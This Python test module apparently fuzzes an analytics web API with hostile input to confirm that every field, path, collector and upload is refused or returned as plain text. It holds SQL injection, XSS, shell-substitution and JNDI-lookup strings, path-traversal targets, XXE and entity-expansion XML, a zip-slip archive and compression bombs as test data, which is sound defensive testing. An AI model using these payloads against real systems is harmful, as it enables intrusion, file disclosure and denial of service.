"""Hostile input: every field of every route, whole bodies, queries, collectors, uploads. Nothing of it may end in a failure
of ours, take long, touch a file, or come back as anything but the text it is."""
import concurrent.futures
import gzip
import io
import json
import os
import random
import struct
import time
import zipfile
import zlib

from scan.net import Gone, Slow, query
from scan.routes import of_api, valid
from scan.world import CANARY, basic

RNG = random.Random(11)
DEEP = int(os.environ.get("POND_SCAN", "1"))  # so many times as much is tried with each field
HTML = "<script>alert(1)</script>"
TEXTS = [
    "", " ", "\t", "'", '"', "`", "\\", "'; drop table access_key; --", '" or ""="', "1' or '1'='1", "') union select secret from access_key --",
    "'||(select 1)||'", "$$x$$", "?1", ":name", "/* */", HTML, '"><img src=x onerror=alert(1)>', "<!--", "]]>", "&lt;b&gt;", "javascript:alert(1)",
    "{{7*7}}", "${jndi:ldap://x/y}", "$(id)", "`id`", "|id", "; id", "%s%s%n%x", "../../../../etc/passwd", "..\\..\\win.ini", "/etc/passwd", "file:///etc/passwd",
    "%2e%2e%2f", "%252e%252e%252f", "\\\\host\\share", "CON", ".", "..", "-", "--help", "-rf", "\x01\x1b[31m\x7f", "\u202eabc", "\ufeff", "\u200b", "\ufffd", "a\u0301",
    "\U0001d54f", "é" * 300, "A" * 3000, "=cmd|' /C calc'!A0", "@SUM(1)", "\r\nSet-Cookie: a=b", "a\nb", "null", "true", "NaN", "-inf", "1e999", "9" * 400,
    "-9223372036854775809", "18446744073709551616", "0x41", "1_000", "１２３", "2026-02-30", "0000-00-00", "99999-12-31", "-1", "0", "1.5", "did", "did purchase and",
    "(" * 500, "not " * 300, "did purchase in 99999999999d", "all and " * 100 + "all", "phone:", ":", "phone:\u0660", "consumer:999999999999", "a:b:c", "x" * 40 + ":y",
]
TYPED = [None, True, 0, -1, 2 ** 63, -2 ** 63 - 1, 2 ** 80, 1.5, 1e308, [], {}, [None], [[1]], [1, "a", True], {"a": {"b": [1]}}, ["x"] * 3000, {"$ne": None}, "x" * 70000]
RAW = [b"", b" ", b"{", b"}", b"[]", b'"x"', b"null", b"1", b"\xff\xfe", b"\xef\xbb\xbf{}", b'{"name":', b'{"name":"\\ud800"}', b'{"name":"\\udc00\\ud800"}', b'{"name":"\xff"}',
       b'{"name":"\x00"}', b'{"name":"\\u0000"}', b'{"name":NaN}', b'{"name":1e400}', b'{"name":-0}', b'{"name":01}', b"{} {}", b'{"name":"a","name":"b"}', b'{"name":"a"}\x00',
       b"{" + b'"a":{' * 5000, b"[" * 100000, b'{"name":' + b"[" * 70 + b"]" * 70 + b"}", b'{"a":1,}', b"{'name':1}", b"name=x", b'{"":""}', b'{"__proto__":{"x":1}}', b'{"name":"' + b"\\" * 999 + b'"}',
       b'{"name":"' + b"x" * (1 << 20) + b'"}', b'{"' + b"k" * 50000 + b'":1}', b"{" + b",".join(b'"k%d":1' % i for i in range(30000)) + b"}"]
QUERIES = ["%", "%zz", "%00", "name=%00", "name=%ff%fe", "name=%ed%a0%80", "&&&", "=", "==", "name=a=b", "name=a&name=b", "name[]=a", "name%5B%5D=a", "NAME=a", "na%6de=a", "name=" + "x" * 15000,
           "x" * 16000, "&".join("a%d=1" % i for i in range(2000)), "name=%253Cb%253E", "lang=xx", "lang=" + "z" * 500, "format=exe", "format=../../x", "format=csv&format=json", "limit=0", "limit=-1",
           "limit=99999999999999999999", "as_of=2026-13-45", "callback=alert", "jsonp=alert", "_method=DELETE", "reveal=maybe"]


def ask(s, method, target, body, who, **more):
    try:
        return s.client.ask(method, target, body, who, **more)
    except (Gone, Slow) as e:
        s.wrong.append("%s %s %r: %r" % (method, target[:120], (body or b"")[:80] if isinstance(body, bytes) else str(body)[:80], e))


def together(s, work):
    """Many at a time, as an attacker would."""
    with concurrent.futures.ThreadPoolExecutor(6) as pool:
        for f in [pool.submit(ask, s, *w, open=("reveal",) if w[3].role == "owner" else ()) for w in work]:
            f.result()
    return len(work)


def safe(name, given):
    """Writes that could go through are aimed at somebody who is not needed."""
    if name in ("user role", "user password", "user disable", "key revoke"):
        return dict(given, name=CANARY["demo"] + "-nobody")
    return given


def fields(s):
    owner, work = s.world.who["demo", "owner"], []
    for r in of_api(s.routes):
        given = valid(CANARY["demo"], s.job["demo"]).get(r.name, {})
        given, payload = given if isinstance(given, tuple) else (given, None)
        names = sorted((set(r.query) | set(r.body)) - {"format", "name" if r.upload else ""})
        for name in names:
            few = r.how in ("edits", "changes", "ledger")  # each costs a copy of the process, or waits for its turn
            for v in RNG.sample(TEXTS, 1 if few else min(len(TEXTS), 3 * DEEP)):
                body = dict(safe(r.name, given), **{name: v})
                if name == "lang" and r.method not in ("GET", "DELETE"):
                    work.append((r.method, r.path + query({"lang": v}), payload if r.upload else {}, owner))
                else:
                    work.append(r.send(body, payload) + (owner,))
            if name in r.body:
                for v in RNG.sample(TYPED, 1 if few else min(len(TYPED), 2 * DEEP)):
                    work.append(r.send(dict(safe(r.name, given), **{name: v})) + (owner,))
    n = together(s, work)
    s.said("texts, numbers, lists and objects of every kind in every field are answered (%d requests)" % n)


def bodies(s):
    owner, work = s.world.who["demo", "owner"], []
    posts = [r for r in of_api(s.routes) if r.body and r.method in ("POST", "PUT")]
    for r in posts:
        for raw in RAW if r.name in ("tag create", "who count", "consumer show") else RNG.sample(RAW, 4):
            work.append((r.method, r.path, raw, owner))
    gets = [r for r in of_api(s.routes) if r.method == "GET"]
    for r in gets:
        for q in QUERIES if r.name in ("consumer show", "tag list", "audit list") else RNG.sample(QUERIES, 3):
            work.append(("GET", r.path.replace("{id}", "1") + "?" + q, None, owner))
    for bad in ("0", "-1", "1e3", "99999999999999999999", "1%00", "..", "%2e%2e", "1/../2", "abc", ""):
        work.append(("GET", "/api/v1/jobs/" + bad, None, owner))
        work.append(("DELETE", "/api/v1/jobs/%s" % bad, None, owner))
    n = together(s, work)
    s.said("bodies and queries that are broken are answered (%d requests)" % n)
    a = s.client.ask("POST", "/api/v1/tags", b"x" * ((1 << 20) + 1), owner)
    s.t.same(a.status, 413, "a body beyond the limit is refused")


def paths(s):
    """No field and no path reaches the server's files."""
    owner = s.world.who["demo", "owner"]
    bait = s.world.bait
    described = s.client.ask("GET", "/api/v1/describe").json()["operations"]
    tried = 0
    for o in described:
        if not o["route"] or o["perm"] == "public":
            continue
        method, path = o["route"].split(" ")
        given = valid(CANARY["demo"], s.job["demo"]).get(o["name"], {})
        given = given[0] if isinstance(given, tuple) else given
        files = [i["name"] for i in o["in"] or [] if i["type"] == "path"] + ["xlsx", "plot", "out", "data", "output", "password-file"]
        for name in files:
            for at in ("/etc/passwd", bait, "../" * 12 + "etc/passwd"):
                named = dict(safe(o["name"], given), **{name: at})
                upload = any(i.get("file") == "upload" for i in o["in"] or [])
                if method in ("GET", "DELETE") or upload:
                    a = s.client.ask(method, path + query(named), b"x" if upload else None, owner)
                else:
                    a = s.client.ask(method, path, named, owner)
                tried += 1
                if a.status != 400:
                    s.wrong.append("%s %s=%s: %r" % (o["name"], name, at, a))
    s.said("no field names a file of the server (%d tried)" % tried)
    for model in ("/etc/passwd", "../../../../etc/passwd", "./x.yaml", bait):
        for path in ("/api/v1/model/diff", "/api/v1/model/apply"):
            a = s.client.ask("POST", path, {"model": model}, owner, [("Prefer", "wait=20")])
            if a.status not in (400, 404):
                s.wrong.append("%s %s: %r" % (path, model, a))
    s.said("nor does a stage model")
    for name in ("../ledger.db", "../../pond.key", "/etc/passwd", "..", ".", "", "demo/../pond.key", "rejects/../../pond.key", "..%2f..%2fpond.key", "....//pond.key"):
        a = s.client.ask("GET", "/api/v1/reject" + query({"name": name}), None, owner)
        if a.status not in (400, 404):
            s.wrong.append("%s: %r" % (name, a))
    s.said("nor does a file of rejects")
    for name in ("../../../../tmp/x.csv", "/etc/cron.d/x", "..%2f..%2fx", "a/../../b.csv", "..\\..\\x.csv", "\x00x.csv", "x" * 300 + ".csv", ".", "..", "...", "", "CON", "a\nb.csv", "$(id).csv", "-rf", "~", "b\u202e.csv"):
        a = s.client.ask("POST", "/api/v1/import" + query({"name": name}), b"id,event\n1,2\n", owner, [("Prefer", "wait=20")])
        if a.status not in (200, 202, 400):
            s.wrong.append("import named %r: %r" % (name, a))
    left = [f for root, _, files in os.walk(os.path.join(s.world.data, "demo", "spool")) for f in files]
    s.t.ok(not os.path.exists(bait) and not os.path.exists("/tmp/x.csv"), "an upload is kept where we keep it, whatever it is called", s.wrong[:5])
    s.wrong = []
    s.t.same(left, [], "and is removed behind the call")
    for p in ("/../etc/passwd", "/..%2f..%2fetc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/%252e%252e/etc/passwd", "/..\\..\\etc\\passwd", "/..%5c..%5cetc%5cpasswd", "/page.css/../../etc/passwd", "/docs/../../etc/passwd",
              "//etc/passwd", "/./page.css", "/page.css%00.html", "/page.css/", "/PAGE.CSS", "/setup.js.map", "/.git/config", "/pond.key", "/demo/ledger.db", "/serve.json", "/api/v1/../../etc/passwd", "/api/v1/%2e%2e/lake",
              "/api//v1/lake", "/api/v1/LAKE", "/api/v1/lake%20", "/api/v1/lake;x=1", "/api/v1/lake/../keys", "/api/v1/jobs/1/../../keys", "/metrics/../api/v1/keys"):
        a = s.client.ask("GET", p, None, owner)
        if a.status not in (400, 404):
            s.wrong.append("%s: %r" % (p, a))
    s.said("no path leads out of the pages that are there, or around a right")


def comes_back(s):
    """Markup, SQL and odd letters are text: taken, kept and told as they were."""
    owner = s.world.who["demo", "owner"]
    for text in ("<img src=x onerror=alert(1)>", "'; drop table tag; --", "\u202ea\u2028b", "=1+1", "𝕏 𠮷"):
        made = s.client.ask("POST", "/api/v1/crowds", {"name": text, "question": "did purchase", "note": text}, owner)
        listed = s.client.ask("GET", "/api/v1/crowds", None, owner)
        told = [c for c in listed.json()["crowds"] if c["crowd"] == text]
        ok = made.status == 200 and told and told[0]["note"] == text
        if not ok or b"<img" in listed.body and "json" not in listed.get("content-type"):
            s.wrong.append("%r: %r" % (text, made))
    s.said("markup, SQL and odd letters in a name come back as the text they were")
    events = [{"type": "track", "userId": t, "event": t, "messageId": "h%d" % i, "properties": {"title": t, t or "x": t}} for i, t in enumerate(TEXTS)]
    a = s.client.ask("POST", "/v1/batch", {"batch": events}, None, [basic(s.world.who["demo", "write"].key)])
    s.t.same(a.status, 200, "events made of such texts are taken")
    time.sleep(0.1)  # a question may be answered as of some 40 ms ago
    a = s.client.ask("GET", "/api/v1/consumer" + query({"identity": "user_id:" + HTML}), None, owner)
    s.t.ok(a.status == 200 and HTML in [e.get("event") for e in a.json()["timeline"]], "and told as they were", a)


# ---- Collectors ----

def zstd_bomb(megabytes):
    """A frame of blocks that each repeat one byte 128 KiB long."""
    n = megabytes * 8
    block = b"".join(struct.pack("<I", (1 if i + 1 == n else 0) | 1 << 1 | (128 << 10) << 3)[:3] + b" " for i in range(n))
    return b"\x28\xb5\x2f\xfd" + b"\x00\x58" + block


def shapes(c):
    e = {"type": "track", "userId": c, "event": c, "messageId": "x1", "properties": {}}
    deep = b'{"batch":[{"type":"track","userId":"u","event":"e","properties":' + b'{"a":' * 500 + b"1" + b"}" * 502
    out = [b"", b"{", b"[]", b"{}", b"null", b'"x"', b"\xff\xfe\x00", b'{"batch":{}}', b'{"batch":[1,null,"x",[],{}]}', b'{"batch":null}', b"[" * 200000, deep]
    for v in (None, 1, -1, 1e308, True, [], {}, "", "x" * 70000, "\x00", "\ud800", HTML, "' or 1=1", 2 ** 70):
        for k in ("userId", "event", "messageId", "type", "properties", "timestamp", "context", "traits"):
            out.append(json.dumps({"batch": [dict(e, **{k: v})], "sentAt": v}).encode())
    out.append(json.dumps({"batch": [e] * 20001}).encode())
    out.append(json.dumps({"api_key": c, "batch": [{"event": 1, "distinct_id": [], "properties": "x", "uuid": {}}]}).encode())
    out.append(b"data=" + b"A" * 5000)
    out.append(b"data_list=%%%&ext=crc=-1&gzip=9")
    out.append(b'{"appid":1,"data":[{"#type":"track"},{"#time":1},7]}')
    return out


def bombs():
    flat = b" " * (64 << 20)
    return [("gzip", gzip.compress(flat)), ("gzip", gzip.compress(gzip.compress(flat))), ("gzip", gzip.compress(b" " * (1 << 20)) * 60), ("deflate", zlib.compress(flat)),
            ("zstd", zstd_bomb(512)), ("gzip", gzip.compress(flat)[:-9]), ("gzip", b"\x1f\x8b\x08\x00" + b"\x00" * 30), ("br", b"\x00" * 100), ("gzip, gzip", b"x")]


def resident(pid, what="VmHWM"):
    with open("/proc/%d/status" % pid) as f:
        return next(int(line.split()[1]) for line in f if line.startswith(what)) // 1024


def collectors(s, pid):
    w = s.world.who["demo", "write"]
    at = [r for r in s.routes if r.right == "event.write"]
    work, packed, all_shapes, all_bombs = [], [], shapes("c"), bombs()
    for r in at:
        key = query({"token": w.key, "project": w.key, "key": w.key, "writeKey": w.key})
        head = [basic(w.key), ("appid", w.key)]
        whole = r.path in ("/v1/batch", "/batch", "/sync_server", "/v1/events", "/sa")
        for body in all_shapes if whole else RNG.sample(all_shapes, 8):
            work.append((r.method, r.path + key, body if r.method == "POST" else None, None, head))
        for coding, body in all_bombs:
            if r.method == "POST":
                packed.append((r.method, r.path + key, body, None, head + [("Content-Encoding", coding)]))
                packed.append((r.method, r.path + key, body, None, head))
    with concurrent.futures.ThreadPoolExecutor(6) as pool:
        got = [f.result() for f in [pool.submit(ask_with, s, *x) for x in work]]
    s.t.ok(len(got) > 100 and not s.wrong, "collectors answer hostile bodies (%d requests)" % len(got), s.wrong[:5])
    s.wrong = []
    before = resident(pid)
    packed = packed if len(packed) < 120 else RNG.sample(packed, 120)
    with concurrent.futures.ThreadPoolExecutor(6) as pool:
        got = [f.result() for f in [pool.submit(ask_with, s, *x) for x in packed]]
    after = resident(pid)
    s.t.ok(after - before < 400 and not s.wrong, "bombs of gzip, deflate and zstd are stopped at the limit (%d requests; most memory %d MiB, then %d)" % (len(got), before, after), s.wrong[:5])
    s.wrong = []


def ask_with(s, method, target, body, who, head):
    return ask(s, method, target, body, who, fields=head)


def uploads(s, pid):
    """Files through the API: bombs, archives that lie, every kind of junk."""
    owner = s.world.who["demo", "owner"]

    def book(members):
        b = io.BytesIO()
        with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
            for name, text in members:
                z.writestr(name, text)
        return b.getvalue()

    files = [("x.xlsx", book([("xl/worksheets/sheet1.xml", b" " * (80 << 20)), ("[Content_Types].xml", b"<x/>")])),
             ("x.xlsx", book([("../../../../tmp/evil.txt", b"x"), ("xl/workbook.xml", b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><workbook>&x;</workbook>')])),
             ("x.xlsx", book([("xl/workbook.xml", b'<!DOCTYPE z [<!ENTITY a "aaaaaaaaaa">' + b"".join(b'<!ENTITY %c "%s">' % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(9)) + b"]><workbook>&j;</workbook>")])),
             ("x.parquet", b"PAR1" + os.urandom(2000) + struct.pack("<I", 2 ** 31) + b"PAR1"), ("x.csv", b"a" * (3 << 20)), ("x.csv", b'"' * 100000), ("x.csv", b"id,time,event,user_id\n" + b"\x00\x01\x02\n" * 1000),
             ("x.ndjson", b"[" * (1 << 20)), ("x.ndjson", b'{"id":"\\ud800","time":{},"event":[],"identities":7}\n' * 50), ("x.bin", os.urandom(100000)), ("x.csv", ("time,event,user_id\n2026-01-01,%s,%s\n" % (HTML, "'; drop table x")).encode())]
    before = resident(pid)
    for name, data in files:
        a = s.client.ask("POST", "/api/v1/import" + query({"name": name}), data, owner, [("Prefer", "wait=20")], patience=20)
        if a.status not in (200, 202, 400, 413, 422):
            s.wrong.append("%s: %r" % (name, a))
        a = s.client.ask("POST", "/api/v1/tags/import" + query({"name": name}), data, owner, patience=20)
        if a.status not in (200, 400, 413, 422):
            s.wrong.append("tags %s: %r" % (name, a))
    s.t.ok(not s.wrong and resident(pid) - before < 400, "files that are no such files are refused or set aside (%d)" % (2 * len(files)), s.wrong[:5])
    s.wrong = []


def unharmed(s, before):
    owner = s.world.who["demo", "owner"]
    a = s.client.ask("POST", "/api/v1/verify", {}, owner, [("Prefer", "wait=30")], patience=30)
    s.t.ok(a.status == 200 and a.json()["ok"], "behind all of it the brand verifies", a)
    s.t.same(s.client.ask("GET", "/api/v1/audit/verify", None, owner).json()["broken"], None, "and so does its audit trail")
    s.t.same(s.state("other"), before, "and nothing of the other brand has changed")
